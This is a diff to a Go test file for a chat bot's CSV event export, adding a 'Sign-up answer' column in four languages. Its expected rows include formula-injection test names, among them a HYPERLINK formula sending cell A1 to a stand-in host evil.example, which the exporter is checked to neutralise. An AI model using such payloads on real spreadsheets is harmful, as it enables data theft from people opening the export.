@@ -118,14 +118,14 @@ func TestExportCSV(t *testing.T) {
 	mustContain(t, "caption", calls[len(calls)-1].Params["caption"], "Квиз 🎉 &lt;b&gt;&amp;&lt;/b&gt;")
 	got := h.lastExport(alice.ID)
 	want := [][]string{
-		{"Name", "Username", "Answer", "Guests", "Waitlist place", "Answered at (America/New_York)"},
-		{"Ольга Петрова", "olga_p", "Going", "1", "", answered[olga.ID]},
-		{"Ana 🎉💃", "", "Going", "0", "", answered[ana.ID]},
-		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "", "Waitlist", "0", "1", answered[hyper.ID]},
-		{"'+SUM(1,2)", "", "Waitlist", "0", "2", answered[plus.ID]},
-		{"'-2+3", "", "Maybe", "0", "", answered[minus.ID]},
-		{"Tabby", "", "Maybe", "0", "", answered[tab.ID]}, // names are trimmed
-		{"'@cmd", "", "Can't go", "0", "", answered[at.ID]},
+		{"Name", "Username", "Answer", "Guests", "Waitlist place", "Answered at (America/New_York)", "Sign-up answer"},
+		{"Ольга Петрова", "olga_p", "Going", "1", "", answered[olga.ID], ""},
+		{"Ana 🎉💃", "", "Going", "0", "", answered[ana.ID], ""},
+		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "", "Waitlist", "0", "1", answered[hyper.ID], ""},
+		{"'+SUM(1,2)", "", "Waitlist", "0", "2", answered[plus.ID], ""},
+		{"'-2+3", "", "Maybe", "0", "", answered[minus.ID], ""},
+		{"Tabby", "", "Maybe", "0", "", answered[tab.ID], ""}, // names are trimmed
+		{"'@cmd", "", "Can't go", "0", "", answered[at.ID], ""},
 	}
 	if !slices.EqualFunc(got, want, slices.Equal) {
 		t.Fatalf("CSV:\n got %q\nwant %q", got, want)
@@ -262,10 +262,10 @@ func TestExportHeaderInEachLanguage(t *testing.T) {
 		who  models.User
 		want []string
 	}{
-		{alice, []string{"Name", "Username", "Answer", "Guests", "Waitlist place", "Answered at (Europe/Berlin)", "Going"}},
-		{oleg, []string{"Имя", "Имя пользователя", "Ответ", "Гости", "Место в листе ожидания", "Время ответа (Europe/Berlin)", "Иду"}},
-		{jonas, []string{"Name", "Benutzername", "Antwort", "Gäste", "Wartelistenplatz", "Geantwortet am (Europe/Berlin)", "Dabei"}},
-		{lucia, []string{"Nombre", "Usuario", "Respuesta", "Invitados", "Puesto en la lista de espera", "Respondió el (Europe/Berlin)", "Voy"}},
+		{alice, []string{"Name", "Username", "Answer", "Guests", "Waitlist place", "Answered at (Europe/Berlin)", "Sign-up answer", "Going"}},
+		{oleg, []string{"Имя", "Имя пользователя", "Ответ", "Гости", "Место в листе ожидания", "Время ответа (Europe/Berlin)", "Ответ на вопрос", "Иду"}},
+		{jonas, []string{"Name", "Benutzername", "Antwort", "Gäste", "Wartelistenplatz", "Geantwortet am (Europe/Berlin)", "Antwort auf die Frage", "Dabei"}},
+		{lucia, []string{"Nombre", "Usuario", "Respuesta", "Invitados", "Puesto en la lista de espera", "Respondió el (Europe/Berlin)", "Respuesta a la pregunta", "Voy"}},
 	} {
 		private := bottest.PrivateChat(c.who)
 		h.Send(private, c.who, "/event Party | sat 20:00")
